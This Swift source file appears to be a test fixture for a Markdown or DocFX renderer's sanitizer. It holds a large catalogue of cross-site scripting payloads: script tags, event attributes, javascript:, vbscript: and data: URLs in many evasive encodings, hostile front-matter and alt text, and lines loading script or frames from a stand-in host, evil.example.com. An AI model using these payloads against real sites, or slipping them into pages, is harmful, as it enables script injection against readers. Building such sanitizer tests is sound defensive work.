/// Articles that try every way known to us of getting live markup into a page: raw HTML, event attributes,
/// dangerous URL schemes in every spelling (case, entities, whitespace and control characters), frames,
/// styles and CSS `url(javascript:)`, hostile front-matter titles and descriptions, hostile alt text, link
/// titles, DocFX images, videos and monikers — and a file name with a scheme in it.
enum InjectionContent {
    static let frontMatter = """
        ---
        title: "</title><script>alert('title')</script><b onmouseover=alert(1)>T"
        description: "\\"><script>alert('description')</script><meta http-equiv=refresh content=0;url=javascript:alert(1)>"
        ms.author: "<img src=x onerror=alert(1)>"
        ---

        """

    static let rawHTML = """
        # Heading <script>alert('heading')</script> and <img src=x onerror=alert(1)>

        <script>alert(1)</script>
        <SCRIPT SRC=//evil.example.com/x.js></SCRIPT>
        <scr<script>ipt>alert(1)</script>

        Inline <script>alert(2)</script> and <ScRiPt>alert(3)</sCrIpT> script.

        <img src=x onerror=alert(1)> <img src="ok.png" ONERROR="alert(1)" alt="fine"> <svg onload=alert(1)><circle/></svg>
        <div onmouseover="alert(1)" style="background:url(javascript:alert(1))">div</div> <body onload=alert(1)>
        <p title="x" onclick=alert(1) OnFocus=alert(1) autofocus tabindex=1>p</p>

        <iframe src="https://evil.example.com"></iframe> <IFRAME SRCDOC="<script>alert(1)</script>"></IFRAME>
        <frameset><frame src="javascript:alert(1)"></frameset> <object data="javascript:alert(1)"></object>
        <embed src="javascript:alert(1)"> <applet code="x"></applet> <math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>

        <style>body { background: url(javascript:alert(1)) } @import 'javascript:alert(1)';</style>
        <link rel="stylesheet" href="javascript:alert(1)"> <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
        <base href="javascript:alert(1)//"> <form action="javascript:alert(1)"><button formaction="javascript:alert(1)">b</button></form>
        <a href="javascript:alert(1)">a1</a> <a href="JAVASCRIPT:alert(1)">a2</a> <a href="&#106;avascript:alert(1)">a3</a>
        <a href="&#x6A;&#x61;&#x76;&#x61;script&colon;alert(1)">a4</a> <a href="jav&#x09;ascript:alert(1)">a5</a>
        <a href="jav&#x0A;ascript:alert(1)">a6</a> <a href=" &#x0D; javascript:alert(1)">a7</a> <a href="vbscript:msgbox(1)">a8</a>
        <a href="VbScRiPt:msgbox(1)">a9</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a10</a>
        <a href="DATA:text/html,<script>alert(1)</script>">a11</a> <a href="java&#0;script:alert(1)">a12</a>
        <a href="&#14;javascript:alert(1)">a13</a> <a href="javascript&#58;alert(1)">a14</a> <a href="livescript:x">a15</a>
        <img src="javascript:alert(1)"> <img src="data:image/svg+xml;base64,PHN2Zz4="> <img src=" vbscript:x" alt="v">
        <a name='x" onclick="alert(1)'>anchor</a> <a id="y><script>alert(1)</script>">id</a>

        """

    static let markdown = """
        ## Markdown links

        [m1](javascript:alert(1)) [m2](JavaScript:alert(1)) [m3](&#106;avascript:alert(1)) [m4](&#x6A;avascript&#x3A;alert(1))
        [m5](<java\tscript:alert(1)>) [m6]( javascript:alert(1)) [m7](vbscript:msgbox(1)) [m8](VBSCRIPT:msgbox(1))
        [m9](data:text/html;base64,PHNjcmlwdD4=) [m10](DaTa:text/html,x) [m11][ref] [m12](javas&#99;ript:alert(1))
        <javascript:alert(1)> <vbscript:msgbox(1)> <data:text/html,x> <JAVASCRIPT:alert(1)>

        [ref]: javascript:alert('ref')

        ![i1](javascript:alert(1)) ![i2](data:image/png;base64,iVBORw0KGgo=) ![i3](VBScript:x) ![i4](&#x64;ata:image/png,x)

        ![" onerror="alert('alt')](ok.png) ![<script>alert('alt')</script>](ok.png) ![a<img src=x onerror=alert(1)>b](ok.png)

        [titled](other.md "\\" onclick=\\"alert(1)") [ok](other.md)

        | a | b |
        |---|---|
        | <script>alert(1)</script> | <a href="javascript:alert(1)">t</a> |

        ```"><script>alert('lang')</script>
        <script>alert('code')</script>
        ```

        `<script>alert('inline code')</script>`

        :::image type="content" source="javascript:alert(1)" alt-text="&quot;><script>alert('docfx')</script>":::

        :::image type="content" source="ok.png" alt-text="\\" onerror=\\"alert(1)" lightbox="javascript:alert(1)":::

        > [!VIDEO javascript:alert(1)]

        > [!NOTE]
        > <script>alert('note')</script> inside a note.

        ::: moniker range="<script>alert('moniker')</script>"
        Moniker text.
        ::: moniker-end

        [!INCLUDE[<script>alert('include')</script>](other.md)]

        [scheme file](javascript:alert(1).md) [scheme file 2](./javascript:alert(1).md)

        """

    static let files: [String: String] = [
        "en-US/x.md": frontMatter + rawHTML + markdown,
        "en-US/other.md": "# Other\n",
        "en-US/javascript:alert(1).md": "---\ntitle: Scheme in the file name\n---\n# Scheme\n",
        "en-US/ok.png": "PNG",
        "nl-NL/x.md": frontMatter + "# Vertaald\n\n<script>alert('nl')</script>\n",
    ]
}
